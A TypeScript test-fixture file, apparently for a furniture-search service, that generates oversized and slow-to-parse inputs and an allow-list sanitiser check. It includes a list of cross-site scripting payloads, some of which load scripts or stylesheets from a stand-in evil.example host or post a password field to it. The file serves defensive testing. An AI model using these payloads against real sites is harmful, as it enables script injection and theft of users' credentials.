import type { Member } from "../http/schemas.ts";

/** The size of a hostile member: just small enough for the maximum size of a body. */
export const hostileBytes = 240_000;

/** A kind of hostile text. `of` returns one that has about this many bytes as JSON. */
export interface HostileText {
  readonly kind: string;
  of(bytes: number): string;
}

/** Texts that repeat a unit between a start and an end. */
const repeated = (kind: string, unit: string, start = "", end = ""): HostileText => {
  const width = Buffer.byteLength(JSON.stringify(unit)) - 2;
  return {
    kind,
    of: (bytes) => start + unit.repeat(Math.max(1, Math.floor(bytes / width))) + end,
  };
};

/** Texts that are slow to normalize, match, sanitise or parse. */
export const hostileTexts: readonly HostileText[] = [
  // Combining classes in descending order, which normalizing must sort.
  repeated("combining marks", "\u0301\u0316", "a"),
  repeated("letters that normalizing makes longer", "\ufdfa"),
  repeated("spaces", " ", "a", "a"),
  repeated("digits", "1"),
  repeated("halves of surrogate pairs", "\ud800"),
  repeated("joined letters", "a-", "", "a"),
  repeated("labels of a host name", "a.", "a@"),
  repeated("nested tags", "<b>"),
];

/** Long, wide or deep values. */
export const hostileShapes: readonly { readonly kind: string; of(bytes: number): string }[] = [
  { kind: "a list of numbers", of: (bytes) => `[${"0,".repeat(bytes / 2)}0]` },
  { kind: "a list of objects", of: (bytes) => `[${"{},".repeat(bytes / 3)}{}]` },
  { kind: "a list of lists", of: (bytes) => `[${"[],".repeat(bytes / 3)}[]]` },
  { kind: "a list of texts", of: (bytes) => `[${'"a",'.repeat(bytes / 4)}"a"]` },
  { kind: "lists in lists", of: (bytes) => "[".repeat(bytes / 2) + "]".repeat(bytes / 2) },
  {
    kind: "objects in objects",
    of: (bytes) => `${'{"a":'.repeat(bytes / 6)}0${"}".repeat(bytes / 6)}`,
  },
  {
    kind: "many members",
    of: (bytes) =>
      `{${Array.from({ length: bytes / 12 }, (_, number) => `"m${number}":0`).join(",")}}`,
  },
];

/** A list with the maximum number of elements, which share `hostileBytes` equally. */
export const fullList = ({ maxItems = 20 }: Member, element: (bytes: number) => string): string => {
  const share = Math.floor(hostileBytes / maxItems) - 2;
  return `[${Array.from({ length: maxItems }, () => element(share)).join(",")}]`;
};

const longest = 200;
const filled = (unit: string) =>
  unit
    .repeat(Math.floor(longest / unit.length))
    .slice(0, longest)
    .trim();

/** Valid queries that are expensive to read or to match, by what makes them so. */
export const hostileSearches: Readonly<Record<string, string>> = {
  "combining marks": `a${filled("\u0301\u0316").slice(1)}`,
  "combining marks on each letter": filled("so\u0301\u0316fa\u0301 "),
  "letters that normalizing makes longer": filled("\ufdfa"),
  "letters that normalizing makes longer, as words": filled("\ufdfa "),
  "only stop words": filled("with for the and in of a to "),
  "many words": filled("grey teak sofa bed table chair lamp rug "),
  "the most frequent words": filled("wood brown grey fabric sofa living room "),
  "words of one letter": filled("s b t c l "),
  "unfinished words": filled("so be ta ch la ru ca co "),
  "misspelt words": filled("sofq tabel chiar wardrub matras lounje cabnet cushin "),
  "long misspelt words": filled("upholstrered entertainmnet contempoarry multipurpsoe "),
  "long words that no card has": filled("abcdefghijklmnopqrstuvwxyzabcdef "),
  "one word of 200 letters": filled("sofa"),
  "words joined to one": filled("bookcasetablelampsofabed "),
  "words with synonyms": filled("couch settee almirah nightstand carpet tv unit sofa cum bed "),
  numbers: filled("3 seater 2 6 8 4 180 cm 72 x 78 "),
  digits: filled("1"),
  budgets: filled("under 5k rs 10,000 to 20,000 or less "),
  negations: filled("without wood no fabric not sofa non teak "),
  "lengths in every unit": filled("5 ft 72 inch 180 cm 900 mm "),
  hyphens: filled("l-shape-sofa-cum-bed-"),
  apostrophes: filled("king's "),
  "Devanagari words": filled("सोफ़ा बिस्तर मेज़ "),
};

/** HTML with hidden scripts. */
export const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  '<video><source onerror="alert(1)"></video>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<p id="location" name="cookie" class="admin">x</p>',
];

/** The parts of a text that a browser parses as tags. */
const tagsIn = (html: string) => html.match(/<[^>]*>?/g) ?? [];
const harmless =
  /^<\/?(?:p|br|hr|h[234]|blockquote|ul|ol|li|strong|b|em|i|u|s|small|su[bp]|table|thead|tbody|tr|t[hd]|a)(?: scope="[^"<>]*"| href="(?:https:|mailto:|tel:|\/(?!\/)|#)[^"<>]*"(?: rel="noopener noreferrer" target="_blank")?)?(?: \/)?>$/;

/** The tags of a text that are not on the allow list. */
export const harmfulTags = (html: string): string[] =>
  tagsIn(html).filter((tag) => tag !== "<a>" && !harmless.test(tag));
